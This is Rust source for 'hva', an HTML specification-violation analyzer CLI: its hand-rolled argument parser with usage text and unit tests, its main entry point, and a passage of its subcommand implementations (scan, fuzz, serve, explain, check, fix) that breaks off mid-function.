//! Hand-rolled argument parsing (no CLI dependency needed for six
//! subcommands).

use hv_corpus::FaultPlan;
use hv_pipeline::StoreFormat;
use std::path::PathBuf;

pub const USAGE: &str = "\
hva — HTML specification-violation analyzer (IMC '22 reproduction)

USAGE:
  hva check <file> [--json]          check one HTML document for violations
  hva fix <file> [-o <out>]          apply the automatic (§4.4) repair
  hva gen [--seed N] [--scale F] [--out DIR] [--domains N] [--year Y]
          [--warc]                   materialize sample corpus pages to disk
                                     (--warc: standard WARC/1.0 + CDXJ files)
  hva scan [--seed N] [--scale F] [--threads N] [--store FILE] [--metrics]
           [--inject-faults S:R] [--resume] [--overwrite]
                                     run the full measurement pipeline
                                     (--metrics: collect + print scan
                                      observability, embedded in the store;
                                      --inject-faults: deterministic read-
                                      path faults, seed S at rate R;
                                      --resume: continue a crash-interrupted
                                      v1 store, skipping its completed
                                      snapshots; --overwrite: replace an
                                      existing store — without either flag,
                                      clobbering an existing store fails)
  hva chaos [--seed N] [--scale F] [--faults S:R] [--threads N]
                                     scan under deterministic fault
                                     injection and verify the robustness
                                     invariants (workers survive, thread-
                                     invariant quarantine, clean pages
                                     untouched); exits non-zero on FAIL
  hva fuzz [--seed N] [--cases N] [--time-budget SECS] [--oracle NAME]
           [--regress-dir DIR] [--replay FILE] [--list-oracles]
                                     differential fuzzing: run seeded
                                     structure-aware cases through the
                                     oracle registry, ddmin-minimize any
                                     failure into DIR, exit non-zero;
                                     --replay re-checks one reproducer,
                                     --list-oracles names the invariants
  hva report <exp> --store FILE [--allow-partial]
                                     render one experiment from a saved scan
                                     (exp: table1 table2 fig8 fig9 fig10
                                      fig16..fig21 stats autofix mitigations
                                      rollout churn aux all; --allow-partial
                                      keeps intact segments of a damaged
                                      v1 store and reports the rest)
  hva store inspect <FILE> [--allow-partial]
                                     print a store's format, provenance, and
                                     per-segment summary table
  hva store verify <FILE>            strict integrity check (checksums,
                                     framing, footers); non-zero on corruption
  hva store migrate <SRC> <DST> [--to v0-json|v1-binary] [--allow-partial]
                                     convert between store formats (default
                                     target: by DST extension — .json is v0,
                                     anything else the v1 binary format)
  hva store export <SRC> <DST> [--allow-partial]
                                     export any store as v0 JSON interchange
  hva repro [--seed N] [--scale F] [--threads N] [--out FILE] [--json FILE]
                                     scan + print every experiment
                                     (+ write EXPERIMENTS-style markdown
                                      and/or a machine-readable JSON dump)
  hva scan-warc <DIR> [--store FILE] scan on-disk WARC/CDXJ archives (as
                                     exported by gen --warc, or real Common
                                     Crawl extracts in the same layout)
  hva explain <VIOLATION|all>        explain a violation: parser behaviour,
                                     attack, and fix (e.g. hva explain DM3)
  hva serve [--addr HOST:PORT] [--threads N] [--max-body BYTES]
            [--queue-depth N] [--store FILE]
                                     serve the /v1 HTTP API (check, fix,
                                     explain, report, store summary, plus
                                     /healthz and /metricsz); --store loads
                                     a saved scan for the report endpoints
  hva help                           show this message

DEFAULTS: --seed 4740657 (0x485631), --scale 0.05, --threads = cores,
          --addr 127.0.0.1:8077, --max-body 1048576, --queue-depth 64,
          --cases 1000, --regress-dir tests/fixtures/regressions
";

#[derive(Debug, Clone, PartialEq)]
pub enum Command {
    Check {
        file: PathBuf,
        json: bool,
    },
    Fix {
        file: PathBuf,
        out: Option<PathBuf>,
    },
    Gen {
        seed: u64,
        scale: f64,
        out: PathBuf,
        domains: usize,
        year: Option<u16>,
        warc: bool,
    },
    Scan {
        seed: u64,
        scale: f64,
        threads: usize,
        store: Option<PathBuf>,
        metrics: bool,
        faults: Option<FaultPlan>,
        resume: bool,
        overwrite: bool,
    },
    Chaos {
        seed: u64,
        scale: f64,
        faults: FaultPlan,
        threads: usize,
    },
    Fuzz {
        seed: u64,
        cases: u64,
        time_budget: Option<u64>,
        oracle: Option<String>,
        regress_dir: PathBuf,
        replay: Option<PathBuf>,
        list_oracles: bool,
    },
    Report {
        experiment: String,
        store: PathBuf,
        allow_partial: bool,
    },
    Store {
        action: StoreAction,
    },
    Repro {
        seed: u64,
        scale: f64,
        threads: usize,
        out: Option<PathBuf>,
        json: Option<PathBuf>,
    },
    ScanWarc {
        dir: PathBuf,
        store: Option<PathBuf>,
    },
    Explain {
        what: String,
    },
    Serve {
        addr: String,
        threads: usize,
        max_body: usize,
        queue_depth: usize,
        store: Option<PathBuf>,
    },
    Help,
}

/// `hva store <action>` — maintenance verbs over saved result stores.
#[derive(Debug, Clone, PartialEq)]
pub enum StoreAction {
    Inspect { file: PathBuf, allow_partial: bool },
    Verify { file: PathBuf },
    Migrate { src: PathBuf, dst: PathBuf, to: Option<StoreFormat>, allow_partial: bool },
    Export { src: PathBuf, dst: PathBuf, allow_partial: bool },
}

const DEFAULT_SEED: u64 = 0x48_56_31;
const DEFAULT_SCALE: f64 = 0.05;

pub fn parse(argv: &[String]) -> Result<Command, String> {
    let mut it = argv.iter().map(String::as_str);
    let cmd = it.next().ok_or("missing subcommand")?;
    let rest: Vec<&str> = it.collect();
    match cmd {
        "help" | "--help" | "-h" => Ok(Command::Help),
        "check" => {
            let (positional, flags) = split(&rest)?;
            let file = positional.first().ok_or("check: missing <file>")?;
            Ok(Command::Check { file: PathBuf::from(file), json: flags.has("json") })
        }
        "fix" => {
            let (positional, flags) = split(&rest)?;
            let file = positional.first().ok_or("fix: missing <file>")?;
            Ok(Command::Fix {
                file: PathBuf::from(file),
                out: flags.get("o").or_else(|| flags.get("out")).map(PathBuf::from),
            })
        }
        "gen" => {
            let (_, flags) = split(&rest)?;
            Ok(Command::Gen {
                seed: flags.num("seed", DEFAULT_SEED)?,
                scale: flags.float("scale", DEFAULT_SCALE)?,
                out: flags.get("out").map(PathBuf::from).unwrap_or_else(|| "corpus-out".into()),
                domains: flags.num("domains", 10)? as usize,
                year: match flags.get("year") {
                    Some(v) => Some(v.parse().map_err(|_| format!("gen: bad --year value {v}"))?),
                    None => None,
                },
                warc: flags.has("warc"),
            })
        }
        "scan" => {
            let (_, flags) = split(&rest)?;
            let resume = flags.has("resume");
            let overwrite = flags.has("overwrite");
            if resume && overwrite {
                return Err("scan: --resume and --overwrite are mutually exclusive".into());
            }
            let store = flags.get("store").map(PathBuf::from);
            if resume && store.is_none() {
                return Err("scan: --resume requires --store FILE".into());
            }
            Ok(Command::Scan {
                seed: flags.num("seed", DEFAULT_SEED)?,
                scale: flags.float("scale", DEFAULT_SCALE)?,
                threads: flags.num("threads", 0)? as usize,
                store,
                metrics: flags.has("metrics"),
                faults: match flags.get("inject-faults") {
                    Some(spec) => Some(FaultPlan::parse(&spec).map_err(|e| format!("scan: {e}"))?),
                    None => None,
                },
                resume,
                overwrite,
            })
        }
        "chaos" => {
            let (_, flags) = split(&rest)?;
            let faults = match flags.get("faults") {
                Some(spec) => FaultPlan::parse(&spec).map_err(|e| format!("chaos: {e}"))?,
                // Default: the corpus default seed at a 10% fault rate.
                None => FaultPlan::new(DEFAULT_SEED, 0.1).expect("static plan is valid"),
            };
            Ok(Command::Chaos {
                seed: flags.num("seed", DEFAULT_SEED)?,
                scale: flags.float("scale", DEFAULT_SCALE)?,
                faults,
                threads: flags.num("threads", 0)? as usize,
            })
        }
        "fuzz" => {
            let (_, flags) = split(&rest)?;
            let time_budget = match flags.get("time-budget") {
                Some(v) => Some(
                    v.parse::<u64>().map_err(|_| format!("fuzz: bad --time-budget value {v}"))?,
                ),
                None => None,
            };
            Ok(Command::Fuzz {
                seed: flags.num("seed", DEFAULT_SEED)?,
                cases: flags.num("cases", 1000)?,
                time_budget,
                oracle: flags.get("oracle"),
                regress_dir: flags
                    .get("regress-dir")
                    .map(PathBuf::from)
                    .unwrap_or_else(|| "tests/fixtures/regressions".into()),
                replay: flags.get("replay").map(PathBuf::from),
                list_oracles: flags.has("list-oracles"),
            })
        }
        "report" => {
            let (positional, flags) = split(&rest)?;
            let experiment = positional.first().ok_or("report: missing <experiment>")?;
            let store = flags.get("store").ok_or("report: missing --store FILE")?;
            Ok(Command::Report {
                experiment: experiment.to_string(),
                store: PathBuf::from(store),
                allow_partial: flags.has("allow-partial"),
            })
        }
        "store" => {
            let (positional, flags) = split(&rest)?;
            let action = positional
                .first()
                .ok_or("store: missing action (inspect | verify | migrate | export)")?;
            let allow_partial = flags.has("allow-partial");
            let action = match *action {
                "inspect" => StoreAction::Inspect {
                    file: positional.get(1).ok_or("store inspect: missing <FILE>")?.into(),
                    allow_partial,
                },
                "verify" => StoreAction::Verify {
                    file: positional.get(1).ok_or("store verify: missing <FILE>")?.into(),
                },
                "migrate" => StoreAction::Migrate {
                    src: positional.get(1).ok_or("store migrate: missing <SRC>")?.into(),
                    dst: positional.get(2).ok_or("store migrate: missing <DST>")?.into(),
                    to: match flags.get("to").as_deref() {
                        Some("v0-json") | Some("v0") => Some(StoreFormat::V0Json),
                        Some("v1-binary") | Some("v1") => Some(StoreFormat::V1Binary),
                        Some(other) => {
                            return Err(format!(
                                "store migrate: bad --to value {other} (v0-json | v1-binary)"
                            ))
                        }
                        None => None,
                    },
                    allow_partial,
                },
                "export" => StoreAction::Export {
                    src: positional.get(1).ok_or("store export: missing <SRC>")?.into(),
                    dst: positional.get(2).ok_or("store export: missing <DST>")?.into(),
                    allow_partial,
                },
                other => {
                    return Err(format!(
                        "store: unknown action {other} (inspect | verify | migrate | export)"
                    ))
                }
            };
            Ok(Command::Store { action })
        }
        "scan-warc" => {
            let (positional, flags) = split(&rest)?;
            let dir = positional.first().ok_or("scan-warc: missing <DIR>")?;
            Ok(Command::ScanWarc {
                dir: PathBuf::from(dir),
                store: flags.get("store").map(PathBuf::from),
            })
        }
        "explain" => {
            let (positional, _) = split(&rest)?;
            let what = positional.first().ok_or("explain: missing <VIOLATION|all>")?;
            Ok(Command::Explain { what: what.to_string() })
        }
        "serve" => {
            let (_, flags) = split(&rest)?;
            let queue_depth = flags.num("queue-depth", 64)? as usize;
            if queue_depth == 0 {
                return Err("serve: --queue-depth must be positive".into());
            }
            Ok(Command::Serve {
                addr: flags.get("addr").unwrap_or_else(|| "127.0.0.1:8077".to_owned()),
                threads: flags.num("threads", 0)? as usize,
                max_body: flags.num("max-body", 1 << 20)? as usize,
                queue_depth,
                store: flags.get("store").map(PathBuf::from),
            })
        }
        "repro" => {
            let (_, flags) = split(&rest)?;
            Ok(Command::Repro {
                seed: flags.num("seed", DEFAULT_SEED)?,
                scale: flags.float("scale", DEFAULT_SCALE)?,
                threads: flags.num("threads", 0)? as usize,
                out: flags.get("out").map(PathBuf::from),
                json: flags.get("json").map(PathBuf::from),
            })
        }
        other => Err(format!("unknown subcommand: {other}")),
    }
}

/// Parsed flags: `--key value`, `--key` (boolean), `-o value`.
pub struct Flags {
    pairs: Vec<(String, Option<String>)>,
}

impl Flags {
    pub fn has(&self, key: &str) -> bool {
        self.pairs.iter().any(|(k, _)| k == key)
    }

    pub fn get(&self, key: &str) -> Option<String> {
        self.pairs.iter().find(|(k, _)| k == key).and_then(|(_, v)| v.clone())
    }

    pub fn num(&self, key: &str, default: u64) -> Result<u64, String> {
        match self.get(key) {
            Some(v) => v.parse().map_err(|_| format!("bad --{key} value: {v}")),
            None => Ok(default),
        }
    }

    pub fn float(&self, key: &str, default: f64) -> Result<f64, String> {
        match self.get(key) {
            Some(v) => {
                let f: f64 = v.parse().map_err(|_| format!("bad --{key} value: {v}"))?;
                if !(0.0..=1.0).contains(&f) || f == 0.0 {
                    return Err(format!("--{key} must be in (0, 1], got {f}"));
                }
                Ok(f)
            }
            None => Ok(default),
        }
    }
}

/// Split args into positional values and flag pairs. A flag's value is the
/// next token unless that token is itself a flag (then it's boolean).
fn split<'a>(rest: &[&'a str]) -> Result<(Vec<&'a str>, Flags), String> {
    let mut positional = Vec::new();
    let mut pairs = Vec::new();
    let mut i = 0;
    while i < rest.len() {
        let tok = rest[i];
        if let Some(key) = tok.strip_prefix("--").or_else(|| tok.strip_prefix('-')) {
            if key.is_empty() {
                return Err(format!("bad flag: {tok}"));
            }
            let value = rest.get(i + 1).filter(|v| !v.starts_with('-')).map(|v| v.to_string());
            if value.is_some() {
                i += 1;
            }
            pairs.push((key.to_string(), value));
        } else {
            positional.push(tok);
        }
        i += 1;
    }
    Ok((positional, Flags { pairs }))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn p(args: &[&str]) -> Result<Command, String> {
        parse(&args.iter().map(|s| s.to_string()).collect::<Vec<_>>())
    }

    #[test]
    fn check_command() {
        assert_eq!(
            p(&["check", "x.html"]).unwrap(),
            Command::Check { file: "x.html".into(), json: false }
        );
        assert_eq!(
            p(&["check", "x.html", "--json"]).unwrap(),
            Command::Check { file: "x.html".into(), json: true }
        );
    }

    #[test]
    fn fix_with_output() {
        assert_eq!(
            p(&["fix", "a.html", "-o", "b.html"]).unwrap(),
            Command::Fix { file: "a.html".into(), out: Some("b.html".into()) }
        );
    }

    #[test]
    fn scan_defaults() {
        match p(&["scan"]).unwrap() {
            Command::Scan { seed, scale, threads, store, metrics, faults, resume, overwrite } => {
                assert_eq!(seed, 0x48_56_31);
                assert!((scale - 0.05).abs() < 1e-12);
                assert_eq!(threads, 0);
                assert!(store.is_none());
                assert!(!metrics);
                assert!(faults.is_none());
                assert!(!resume);
                assert!(!overwrite);
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn scan_resume_and_overwrite_flags() {
        match p(&["scan", "--store", "s.hvs", "--resume"]).unwrap() {
            Command::Scan { resume, overwrite, store, .. } => {
                assert!(resume);
                assert!(!overwrite);
                assert_eq!(store, Some("s.hvs".into()));
            }
            other => panic!("{other:?}"),
        }
        assert!(matches!(
            p(&["scan", "--store", "s.hvs", "--overwrite"]).unwrap(),
            Command::Scan { overwrite: true, .. }
        ));
        // Contradictory or incomplete combinations fail at parse time.
        assert!(p(&["scan", "--store", "s.hvs", "--resume", "--overwrite"]).is_err());
        assert!(p(&["scan", "--resume"]).is_err());
    }

    #[test]
    fn scan_inject_faults() {
        match p(&["scan", "--inject-faults", "7:0.25"]).unwrap() {
            Command::Scan { faults, .. } => {
                assert_eq!(faults, Some(FaultPlan { seed: 7, rate: 0.25 }));
            }
            other => panic!("{other:?}"),
        }
        // Malformed specs are rejected at parse time, not mid-scan.
        assert!(p(&["scan", "--inject-faults", "7"]).is_err());
        assert!(p(&["scan", "--inject-faults", "x:0.5"]).is_err());
        assert!(p(&["scan", "--inject-faults", "7:1.5"]).is_err());
    }

    #[test]
    fn chaos_defaults_and_flags() {
        match p(&["chaos"]).unwrap() {
            Command::Chaos { seed, scale, faults, threads } => {
                assert_eq!(seed, 0x48_56_31);
                assert!((scale - 0.05).abs() < 1e-12);
                assert_eq!(faults, FaultPlan { seed: 0x48_56_31, rate: 0.1 });
                assert_eq!(threads, 0);
            }
            other => panic!("{other:?}"),
        }
        match p(&["chaos", "--faults", "3:0.5", "--scale", "0.002", "--threads", "4"]).unwrap() {
            Command::Chaos { faults, threads, .. } => {
                assert_eq!(faults, FaultPlan { seed: 3, rate: 0.5 });
                assert_eq!(threads, 4);
            }
            other => panic!("{other:?}"),
        }
        assert!(p(&["chaos", "--faults", "bogus"]).is_err());
    }

    #[test]
    fn scan_metrics_flag() {
        match p(&["scan", "--metrics", "--threads", "2"]).unwrap() {
            Command::Scan { threads, metrics, .. } => {
                assert!(metrics);
                assert_eq!(threads, 2);
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn repro_flags() {
        match p(&["repro", "--seed", "7", "--scale", "0.5", "--threads", "4"]).unwrap() {
            Command::Repro { seed, scale, threads, .. } => {
                assert_eq!(seed, 7);
                assert!((scale - 0.5).abs() < 1e-12);
                assert_eq!(threads, 4);
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn scale_bounds_enforced() {
        assert!(p(&["scan", "--scale", "2.0"]).is_err());
        assert!(p(&["scan", "--scale", "0"]).is_err());
    }

    #[test]
    fn report_requires_store() {
        assert!(p(&["report", "fig8"]).is_err());
        assert_eq!(
            p(&["report", "fig8", "--store", "s.json"]).unwrap(),
            Command::Report {
                experiment: "fig8".into(),
                store: "s.json".into(),
                allow_partial: false
            }
        );
        assert!(matches!(
            p(&["report", "all", "--store", "s.hvs", "--allow-partial"]).unwrap(),
            Command::Report { allow_partial: true, .. }
        ));
    }

    #[test]
    fn store_actions_parse() {
        assert_eq!(
            p(&["store", "inspect", "s.hvs"]).unwrap(),
            Command::Store {
                action: StoreAction::Inspect { file: "s.hvs".into(), allow_partial: false }
            }
        );
        assert_eq!(
            p(&["store", "inspect", "s.hvs", "--allow-partial"]).unwrap(),
            Command::Store {
                action: StoreAction::Inspect { file: "s.hvs".into(), allow_partial: true }
            }
        );
        assert_eq!(
            p(&["store", "verify", "s.hvs"]).unwrap(),
            Command::Store { action: StoreAction::Verify { file: "s.hvs".into() } }
        );
        assert_eq!(
            p(&["store", "migrate", "s.json", "s.hvs"]).unwrap(),
            Command::Store {
                action: StoreAction::Migrate {
                    src: "s.json".into(),
                    dst: "s.hvs".into(),
                    to: None,
                    allow_partial: false,
                }
            }
        );
        assert_eq!(
            p(&["store", "migrate", "a", "b", "--to", "v0-json"]).unwrap(),
            Command::Store {
                action: StoreAction::Migrate {
                    src: "a".into(),
                    dst: "b".into(),
                    to: Some(StoreFormat::V0Json),
                    allow_partial: false,
                }
            }
        );
        assert_eq!(
            p(&["store", "export", "s.hvs", "out.json"]).unwrap(),
            Command::Store {
                action: StoreAction::Export {
                    src: "s.hvs".into(),
                    dst: "out.json".into(),
                    allow_partial: false,
                }
            }
        );
        assert!(p(&["store"]).is_err());
        assert!(p(&["store", "inspect"]).is_err());
        assert!(p(&["store", "migrate", "a"]).is_err());
        assert!(p(&["store", "migrate", "a", "b", "--to", "v9"]).is_err());
        assert!(p(&["store", "frobnicate", "x"]).is_err());
    }

    #[test]
    fn serve_defaults_and_flags() {
        assert_eq!(
            p(&["serve"]).unwrap(),
            Command::Serve {
                addr: "127.0.0.1:8077".into(),
                threads: 0,
                max_body: 1 << 20,
                queue_depth: 64,
                store: None,
            }
        );
        match p(&[
            "serve",
            "--addr",
            "0.0.0.0:9000",
            "--threads",
            "4",
            "--max-body",
            "4096",
            "--queue-depth",
            "8",
            "--store",
            "s.json",
        ])
        .unwrap()
        {
            Command::Serve { addr, threads, max_body, queue_depth, store } => {
                assert_eq!(addr, "0.0.0.0:9000");
                assert_eq!(threads, 4);
                assert_eq!(max_body, 4096);
                assert_eq!(queue_depth, 8);
                assert_eq!(store, Some("s.json".into()));
            }
            other => panic!("{other:?}"),
        }
        assert!(p(&["serve", "--queue-depth", "0"]).is_err());
        assert!(p(&["serve", "--max-body", "lots"]).is_err());
    }

    #[test]
    fn fuzz_defaults_and_flags() {
        assert_eq!(
            p(&["fuzz"]).unwrap(),
            Command::Fuzz {
                seed: 0x48_56_31,
                cases: 1000,
                time_budget: None,
                oracle: None,
                regress_dir: "tests/fixtures/regressions".into(),
                replay: None,
                list_oracles: false,
            }
        );
        match p(&[
            "fuzz",
            "--seed",
            "9",
            "--cases",
            "50000",
            "--time-budget",
            "60",
            "--oracle",
            "tokenizer-equivalence",
            "--replay",
            "repro.html",
        ])
        .unwrap()
        {
            Command::Fuzz { seed, cases, time_budget, oracle, replay, .. } => {
                assert_eq!(seed, 9);
                assert_eq!(cases, 50000);
                assert_eq!(time_budget, Some(60));
                assert_eq!(oracle.as_deref(), Some("tokenizer-equivalence"));
                assert_eq!(replay, Some("repro.html".into()));
            }
            other => panic!("{other:?}"),
        }
        assert!(matches!(
            p(&["fuzz", "--list-oracles"]).unwrap(),
            Command::Fuzz { list_oracles: true, .. }
        ));
        assert!(p(&["fuzz", "--time-budget", "soon"]).is_err());
    }

    #[test]
    fn unknown_subcommand_rejected() {
        assert!(p(&["bogus"]).is_err());
        assert!(p(&[]).is_err());
    }
}
