//! `hva` — the html-violations analyzer CLI.
//!
//! Single-document tooling (`check`, `fix`), corpus tooling (`gen`), the
//! measurement pipeline (`scan`), and experiment regeneration (`report`,
//! `repro`). Run `hva help` for usage.

mod args;
mod commands;

use std::process::ExitCode;

fn main() -> ExitCode {
    let argv: Vec<String> = std::env::args().skip(1).collect();
    match args::parse(&argv) {
        Ok(cmd) => match commands::run(cmd) {
            Ok(()) => ExitCode::SUCCESS,
            Err(e) => {
                eprintln!("error: {e}");
                ExitCode::FAILURE
            }
        },
        Err(e) => {
            eprintln!("error: {e}\n");
            eprintln!("{}", args::USAGE);
            ExitCode::from(2)
        }
    }
}
