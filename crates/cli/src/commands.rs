//! Subcommand implementations.

use crate::args::{Command, StoreAction, USAGE};
use hv_core::{autofix, Battery};
use hv_corpus::{Archive, CorpusConfig, Snapshot};
use hv_pipeline::{
    scan, scan_streamed, IndexedStore, LoadOptions, ResultStore, ScanOptions, StoreFormat,
};
use std::fs;
use std::path::Path;
use std::time::Instant;

pub fn run(cmd: Command) -> Result<(), String> {
    match cmd {
        Command::Help => {
            println!("{USAGE}");
            Ok(())
        }
        Command::Check { file, json } => check(&file, json),
        Command::Fix { file, out } => fix(&file, out.as_deref()),
        Command::Gen { seed, scale, out, domains, year, warc } => {
            gen(seed, scale, &out, domains, year, warc)
        }
        Command::Scan { seed, scale, threads, store, metrics, faults, resume, overwrite } => {
            match store {
                // Writing the binary format streams one snapshot segment at
                // a time: peak memory never holds the full record set.
                Some(path) if StoreFormat::for_path(&path) == StoreFormat::V1Binary => {
                    run_scan_streamed(
                        seed, scale, threads, metrics, faults, resume, overwrite, &path,
                    )?;
                    println!("store written to {} (v1-binary, streamed)", path.display());
                }
                Some(path) if resume => {
                    return Err(format!(
                        "scan: --resume requires a v1 binary store, but {} is v0 JSON \
                         (one-shot writes cannot be resumed)",
                        path.display()
                    ));
                }
                Some(path) => {
                    let result = run_scan(seed, scale, threads, metrics, faults)?;
                    result.save(&path).map_err(|e| format!("saving store: {e}"))?;
                    println!("store written to {}", path.display());
                }
                None => {
                    let result = run_scan(seed, scale, threads, metrics, faults)?;
                    // Index exactly once; every experiment renders from it.
                    println!("{}", hv_report::full_report(&IndexedStore::new(result)));
                }
            }
            Ok(())
        }
        Command::Chaos { seed, scale, faults, threads } => chaos(seed, scale, faults, threads),
        Command::Fuzz { seed, cases, time_budget, oracle, regress_dir, replay, list_oracles } => {
            fuzz(seed, cases, time_budget, oracle, regress_dir, replay, list_oracles)
        }
        Command::Report { experiment, store, allow_partial } => {
            // One load, one index build per invocation: the IndexedStore is
            // constructed here and every render below reads from it.
            let indexed = IndexedStore::load_with(&store, LoadOptions { allow_partial })
                .map_err(|e| format!("loading store: {e}"))?;
            warn_dropped(&indexed);
            println!("{}", render_experiment(&experiment, &indexed)?);
            Ok(())
        }
        Command::Store { action } => store_cmd(action),
        Command::ScanWarc { dir, store } => {
            let inputs = hv_pipeline::warcscan::discover(&dir)
                .map_err(|e| format!("discovering WARC inputs in {}: {e}", dir.display()))?;
            if inputs.is_empty() {
                return Err(format!("no CC-MAIN-*.warc/.cdxj pairs found in {}", dir.display()));
            }
            eprintln!("scanning {} WARC snapshot(s) ...", inputs.len());
            let result = hv_pipeline::warcscan::scan_warc(&inputs)
                .map_err(|e| format!("scanning WARC: {e}"))?;
            match store {
                Some(path) => {
                    result
                        .save_as(&path, StoreFormat::for_path(&path))
                        .map_err(|e| format!("saving store: {e}"))?;
                    println!(
                        "store written to {} ({})",
                        path.display(),
                        StoreFormat::for_path(&path).name()
                    );
                }
                None => println!("{}", hv_report::full_report(&IndexedStore::new(result))),
            }
            Ok(())
        }
        Command::Explain { what } => explain(&what),
        Command::Serve { addr, threads, max_body, queue_depth, store } => {
            serve(addr, threads, max_body, queue_depth, store)
        }
        Command::Repro { seed, scale, threads, out, json } => {
            // Repro always collects metrics: the run's provenance (how fast,
            // how many pages, which checks fired) belongs in the record.
            let store = run_scan(seed, scale, threads, true, None)?;
            // One index build feeds the console report, the markdown dump,
            // and the JSON dump — the records are never re-aggregated.
            let store = IndexedStore::new(store);
            println!("{}", hv_report::full_report(&store));
            if let Some(path) = out {
                let md = hv_report::experiments_markdown(&store);
                fs::write(&path, md).map_err(|e| format!("writing {}: {e}", path.display()))?;
                println!("\nmarkdown summary written to {}", path.display());
            }
            if let Some(path) = json {
                let v = hv_report::experiments_json(&store);
                let text = serde_json::to_string_pretty(&v)
                    .map_err(|e| format!("serializing experiments: {e}"))?;
                fs::write(&path, text).map_err(|e| format!("writing {}: {e}", path.display()))?;
                println!("JSON dump written to {}", path.display());
            }
            Ok(())
        }
    }
}

/// `hva fuzz`: differential fuzzing against the oracle registry. Exits
/// non-zero on any oracle violation, with a one-line replay command per
/// minimized reproducer so CI logs are directly actionable.
fn fuzz(
    seed: u64,
    cases: u64,
    time_budget: Option<u64>,
    oracle: Option<String>,
    regress_dir: std::path::PathBuf,
    replay: Option<std::path::PathBuf>,
    list_oracles: bool,
) -> Result<(), String> {
    if list_oracles {
        for o in hv_fuzz::all_oracles() {
            println!("{:24} {}", o.name(), o.describe());
        }
        return Ok(());
    }
    if let Some(path) = replay {
        let violations = hv_fuzz::replay(&path, oracle.as_deref())?;
        if violations.is_empty() {
            println!("{}: all oracles pass", path.display());
            return Ok(());
        }
        for (name, message) in &violations {
            println!("FAIL {name}: {message}");
        }
        return Err(format!("{}: {} oracle violation(s)", path.display(), violations.len()));
    }

    let opts = hv_fuzz::FuzzOptions {
        seed,
        cases,
        time_budget: time_budget.map(std::time::Duration::from_secs),
        oracle: oracle.clone(),
        regress_dir: Some(regress_dir),
    };
    eprintln!(
        "fuzzing: seed {seed}, {cases} cases, {} ...",
        oracle.as_deref().unwrap_or("all oracles")
    );
    let out = hv_fuzz::fuzz(&opts)?;
    eprintln!(
        "{} case(s) in {:.1}s{}",
        out.cases_run,
        out.elapsed.as_secs_f64(),
        if out.stopped_by_budget { " (time budget reached)" } else { "" }
    );
    if out.ok() {
        println!("OK: {} case(s), no oracle violations", out.cases_run);
        return Ok(());
    }
    for f in &out.failures {
        println!("FAIL {} on case (seed {}, index {}): {}", f.oracle, f.seed, f.index, f.message);
        println!("  minimized to {} byte(s): {:?}", f.minimized.len(), f.minimized);
        if let Some(path) = &f.fixture {
            println!("  reproducer: hva fuzz --seed {} --replay {}", f.seed, path.display());
        }
    }
    Err(format!("{} oracle violation(s) found", out.failures.len()))
}

/// `hva serve`: run the /v1 HTTP API until the process is killed.
fn serve(
    addr: String,
    threads: usize,
    max_body: usize,
    queue_depth: usize,
    store: Option<std::path::PathBuf>,
) -> Result<(), String> {
    let mut opts = hv_server::ServeOptions::new()
        .addr(addr)
        .threads(threads)
        .max_body(max_body)
        .queue_depth(queue_depth);
    if let Some(path) = store {
        eprintln!("loading result store from {} ...", path.display());
        opts = opts.store_path(path);
    }
    let server = hv_server::serve(opts).map_err(|e| e.to_string())?;
    eprintln!(
        "serving http://{} — POST /v1/check, POST /v1/fix, GET /v1/explain/{{kind}}, \
         GET /v1/report/{{experiment}}, GET /v1/store/summary, GET /healthz, GET /metricsz",
        server.addr()
    );
    // Serve until killed; the acceptor and workers own all the work.
    loop {
        std::thread::park();
    }
}

fn explain(what: &str) -> Result<(), String> {
    use hv_core::ViolationKind;
    let kinds: Vec<ViolationKind> = if what.eq_ignore_ascii_case("all") {
        ViolationKind::ALL.to_vec()
    } else {
        vec![ViolationKind::from_id(&what.to_ascii_uppercase())
            .ok_or_else(|| format!("unknown violation: {what} (try `hva explain all`)"))?]
    };
    for kind in kinds {
        let e = kind.explanation();
        println!(
            "{} — {}\n  group:      {} ({})\n  category:   {:?}\n  fixability: {:?}\n  behaviour:  {}\n  attack:     {}\n  fix:        {}\n",
            kind.id(),
            kind.definition(),
            kind.group().name(),
            kind.group().code(),
            kind.category(),
            kind.fixability(),
            e.behaviour,
            e.attack,
            e.fix,
        );
    }
    Ok(())
}

fn check(file: &Path, json: bool) -> Result<(), String> {
    let bytes = fs::read(file).map_err(|e| format!("reading {}: {e}", file.display()))?;
    // Clean UTF-8 borrows from `bytes`; only the lossy fallback allocates.
    let text: std::borrow::Cow<'_, str> = match spec_html::decoder::decode_utf8(&bytes) {
        spec_html::decoder::Decoded::Utf8(t) => t.into(),
        spec_html::decoder::Decoded::NotUtf8 { valid_up_to } => {
            eprintln!(
                "note: {} is not valid UTF-8 (first bad byte at {valid_up_to}); \
                 decoding lossily (the measurement pipeline would skip this document)",
                file.display()
            );
            spec_html::decoder::decode_utf8_lossy(&bytes).into()
        }
    };
    let report = Battery::full().run_str(&text);
    if json {
        println!(
            "{}",
            serde_json::to_string_pretty(&report).map_err(|e| format!("serializing: {e}"))?
        );
        return Ok(());
    }
    if report.is_clean() {
        println!("{}: no violations", file.display());
        return Ok(());
    }
    println!("{}: {} finding(s)", file.display(), report.findings.len());
    for f in &report.findings {
        println!(
            "  {:6} [{}|{}]  @{:<6}  {}",
            f.kind.id(),
            f.kind.group().code(),
            match f.kind.fixability() {
                hv_core::Fixability::Automatic => "auto-fixable",
                hv_core::Fixability::Manual => "manual",
            },
            f.offset,
            f.evidence
        );
    }
    let m = report.mitigations;
    if m.script_in_attribute || m.newline_in_url {
        println!(
            "mitigation flags: script_in_attribute={} newline_in_url={} newline_and_lt_in_url={}",
            m.script_in_attribute, m.newline_in_url, m.newline_and_lt_in_url
        );
    }
    Ok(())
}

fn fix(file: &Path, out: Option<&Path>) -> Result<(), String> {
    let text = fs::read_to_string(file).map_err(|e| format!("reading {}: {e}", file.display()))?;
    let outcome = autofix::auto_fix(&text);
    eprintln!(
        "before: {:?}\nafter:  {:?}\neliminated: {:?}",
        outcome.before.iter().map(|k| k.id()).collect::<Vec<_>>(),
        outcome.after.iter().map(|k| k.id()).collect::<Vec<_>>(),
        outcome.eliminated().iter().map(|k| k.id()).collect::<Vec<_>>(),
    );
    match out {
        Some(path) => {
            fs::write(path, &outcome.fixed_html)
                .map_err(|e| format!("writing {}: {e}", path.display()))?;
